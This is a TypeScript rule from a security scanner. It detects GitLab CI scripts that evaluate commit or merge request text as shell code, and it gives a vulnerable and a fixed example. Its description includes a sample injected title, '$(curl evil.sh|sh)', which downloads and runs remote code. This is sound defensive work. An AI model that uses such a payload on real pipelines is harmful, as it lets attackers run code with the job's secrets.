import type { IacCheck } from '../../../check.js';
import { commandName, logicalLines, splitCommands, stripComment } from '../../github-actions/shell.js';
import { scriptNodes, type GitlabDoc } from '../model.js';

/** Predefined variables whose value an outside contributor (merge request author, committer) chooses. */
const UNTRUSTED = [
  'CI_COMMIT_MESSAGE',
  'CI_COMMIT_TITLE',
  'CI_COMMIT_DESCRIPTION',
  'CI_COMMIT_TAG_MESSAGE',
  'CI_COMMIT_AUTHOR',
  'CI_COMMIT_BRANCH',
  'CI_COMMIT_REF_NAME',
  'CI_COMMIT_TAG',
  'CI_MERGE_REQUEST_TITLE',
  'CI_MERGE_REQUEST_DESCRIPTION',
  'CI_MERGE_REQUEST_SOURCE_BRANCH_NAME',
  'CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME',
];

const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash']);
const INTERPRETERS = new Set(['python', 'python3', 'node', 'perl', 'ruby', 'php']);

function isIdentChar(c: string | undefined): boolean {
  return (
    c !== undefined &&
    ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c === '_')
  );
}

/** The untrusted variables the text expands outside single quotes (`$X`, `${X}`). */
function expandedUntrusted(text: string): string[] {
  const out: string[] = [];
  let quote = '';
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quote === "'") {
      if (c === "'") quote = '';
    } else if (c === "'" && quote === '') quote = "'";
    else if (c === '"') quote = quote === '"' ? '' : '"';
    else if (c === '\\') i++;
    else if (c === '$') {
      const braced = text[i + 1] === '{';
      const from = i + (braced ? 2 : 1);
      let j = from;
      while (isIdentChar(text[j])) j++;
      const name = text.slice(from, j);
      if (UNTRUSTED.includes(name) && !out.includes(name)) out.push(name);
    }
  }
  return out;
}

/** Whether a simple command runs its arguments as code: `eval ...`, `sh -c "..."`, `python -c "..."`. */
function evaluatesArguments(command: string): boolean {
  const { name, rest } = commandName(command);
  if (name === 'eval') return true;
  if (SHELLS.has(name))
    return rest.some((w) => w === '-c' || (w.startsWith('-') && !w.startsWith('--') && w.includes('c')));
  if (INTERPRETERS.has(name)) return rest.some((w) => w === '-c' || w === '-e');
  return false;
}

export const check: IacCheck<GitlabDoc> = {
  meta: {
    id: 'iac/gitlab-untrusted-variable-eval',
    title: 'Commit or merge request text evaluated as code',
    severity: 'high',
    cwe: ['CWE-78'],
    description:
      'Variables such as `$CI_COMMIT_MESSAGE`, `$CI_MERGE_REQUEST_TITLE` and branch names are chosen by whoever pushes the commit or opens the ' +
      'merge request. Used as a plain shell variable they are data, but inside `eval` or in the double-quoted script of `sh -c` / `bash -c` ' +
      'they are expanded first and then parsed as shell code, so a title like `$(curl evil.sh|sh)` runs in the job with its CI/CD variables.',
    help: {
      bad: [
        'notify:',
        '  script:',
        '    - eval "./notify.sh --title \\"$CI_MERGE_REQUEST_TITLE\\""',
        '',
      ].join('\n'),
      good: ['notify:', '  script:', '    - ./notify.sh --title "$CI_MERGE_REQUEST_TITLE"', ''].join('\n'),
      fix: 'Pass the variable as a quoted argument (`"$CI_COMMIT_MESSAGE"`) instead of building code from it; inside `sh -c`, use single quotes so the inner shell reads it as a variable.',
    },
    references: [
      'https://docs.gitlab.com/ee/ci/variables/predefined_variables.html',
      'https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-04-Poisoned-Pipeline-Execution',
    ],
    tags: ['gitlab-ci', 'owasp:A03:2021', 'injection'],
    precision: 'high',
    platform: 'gitlab-ci',
  },
  check(doc, report) {
    for (const node of scriptNodes(doc))
      for (const line of logicalLines(doc.file, node.path))
        for (const command of splitCommands(stripComment(line.text))) {
          if (!evaluatesArguments(command.text)) continue;
          const names = expandedUntrusted(command.text);
          if (names.length === 0) continue;
          report({
            path: doc.path,
            start: line.start,
            end: line.lines[0]?.end ?? line.end,
            resource: node.resource,
            message: `\`$${names.join('`, `$')}\` is evaluated as code`,
          });
          break;
        }
  },
};
